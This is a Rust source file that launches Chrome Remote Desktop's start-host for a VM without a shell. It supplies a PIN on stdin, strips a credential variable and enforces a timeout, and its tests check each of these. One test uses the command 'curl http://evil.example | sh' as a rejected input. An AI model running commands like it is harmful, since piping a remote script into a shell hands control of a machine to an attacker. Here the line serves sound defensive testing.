//! Running Chrome Remote Desktop's start-host for an assignment: the argv is rebuilt from
//! the command's checked `--code` by the shared [`CrdCommand`] (never a shell), `DISPLAY`
//! is empty, the PIN goes twice on stdin, and the run is killed at the timeout.

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use lablink_core::domain::{CrdCommand, Hostname};
use tokio::io::AsyncWriteExt;
use tokio::process::Command;

/// Output kept in the daemon's log per stream.
const OUTPUT_LIMIT: usize = 8 * 1024;

#[derive(Debug, thiserror::Error)]
pub enum RunError {
    #[error("the assigned command is not a Chrome Remote Desktop command: {0}")]
    BadCommand(String),
    #[error("cannot start {path}: {source}")]
    Spawn { path: String, source: std::io::Error },
    #[error("start-host did not finish within {0:?} and was killed")]
    Timeout(Duration),
    #[error("start-host failed ({status}): {stderr}")]
    Failed { status: String, stderr: String },
    #[error("waiting for start-host failed: {0}")]
    Wait(std::io::Error),
}

fn clip(b: &[u8]) -> String {
    let s = String::from_utf8_lossy(&b[..b.len().min(OUTPUT_LIMIT)]);
    s.trim().to_owned()
}

/// Run `start_host` for `command` on `host`, returning its (clipped) stdout.
pub async fn run(
    start_host: &Path,
    command: &str,
    pin: &str,
    host: &Hostname,
    timeout: Duration,
) -> Result<String, RunError> {
    let crd = CrdCommand::parse(command).map_err(|e| RunError::BadCommand(e.to_string()))?;
    let argv = crd.argv(host);
    let mut cmd = Command::new(start_host);
    // argv[0] is Google's path; the configured program replaces it.
    cmd.args(&argv[1..])
        .envs(crd.env())
        // start-host and its children never see the VM's credential.
        .env_remove("LABLINK_CREDENTIAL")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true);
    let mut child = cmd.spawn().map_err(|source| RunError::Spawn {
        path: start_host.display().to_string(),
        source,
    })?;
    let mut stdin = child.stdin.take().expect("stdin is piped");
    let pin_twice = format!("{pin}\n{pin}\n");
    let write = async move {
        // A program that exits without reading its stdin is not an error here.
        let _ = stdin.write_all(pin_twice.as_bytes()).await;
        let _ = stdin.shutdown().await;
    };
    let (_, out) = tokio::join!(write, tokio::time::timeout(timeout, child.wait_with_output()));
    let out = match out {
        Err(_) => return Err(RunError::Timeout(timeout)),
        Ok(Err(e)) => return Err(RunError::Wait(e)),
        Ok(Ok(out)) => out,
    };
    let stdout = clip(&out.stdout);
    let stderr = clip(&out.stderr);
    if !stderr.is_empty() {
        tracing::info!(stderr = %stderr, "start-host stderr");
    }
    if out.status.success() {
        Ok(stdout)
    } else {
        Err(RunError::Failed {
            status: out.status.to_string(),
            stderr: if stderr.is_empty() { stdout } else { stderr },
        })
    }
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::PermissionsExt;

    use super::*;

    fn script(dir: &Path, name: &str, body: &str) -> std::path::PathBuf {
        let p = dir.join(name);
        std::fs::write(&p, format!("#!/bin/sh\n{body}\n")).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        p
    }

    const CMD: &str = "DISPLAY= /opt/google/chrome-remote-desktop/start-host --code=\"4/0AbcDef-ghi\" \
                       --redirect-url=\"https://remotedesktop.google.com/_/oauthredirect\" --name=$(hostname)";

    #[tokio::test]
    async fn runs_without_a_shell_with_the_pin_twice_and_an_empty_display() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("out");
        let bin = script(
            dir.path(),
            "start-host",
            &format!(
                "for a in \"$@\"; do echo \"arg:$a\"; done > {o}; echo \"DISPLAY=[$DISPLAY]\" >> {o}; cat >> {o}; echo done",
                o = out.display()
            ),
        );
        let host = Hostname::parse("vm-7").unwrap();
        let stdout = run(&bin, CMD, "123456", &host, Duration::from_secs(10))
            .await
            .unwrap();
        assert_eq!(stdout, "done");
        let got = std::fs::read_to_string(&out).unwrap();
        assert_eq!(
            got,
            "arg:--code=4/0AbcDef-ghi\narg:--redirect-url=https://remotedesktop.google.com/_/oauthredirect\n\
             arg:--name=vm-7\nDISPLAY=[]\n123456\n123456\n"
        );
    }

    #[tokio::test]
    async fn refuses_a_command_that_is_not_crd_and_reports_failures_and_timeouts() {
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("ran");
        let bin = script(dir.path(), "ok", &format!("touch {}", marker.display()));
        let host = Hostname::parse("vm-7").unwrap();
        let bad = "curl http://evil.example | sh";
        assert!(matches!(
            run(&bin, bad, "123456", &host, Duration::from_secs(5)).await,
            Err(RunError::BadCommand(_))
        ));
        assert!(!marker.exists(), "nothing runs for a refused command");

        let failing = script(dir.path(), "fail", "echo 'OAuth code expired' >&2; exit 3");
        let e = run(&failing, CMD, "123456", &host, Duration::from_secs(5))
            .await
            .unwrap_err();
        assert!(e.to_string().contains("OAuth code expired"), "{e}");

        let slow = script(dir.path(), "slow", "sleep 30");
        let t = std::time::Instant::now();
        let e = run(&slow, CMD, "123456", &host, Duration::from_millis(300))
            .await
            .unwrap_err();
        assert!(matches!(e, RunError::Timeout(_)), "{e}");
        assert!(t.elapsed() < Duration::from_secs(5));

        let missing = dir.path().join("missing");
        assert!(matches!(
            run(&missing, CMD, "123456", &host, Duration::from_secs(5)).await,
            Err(RunError::Spawn { .. })
        ));
    }
}
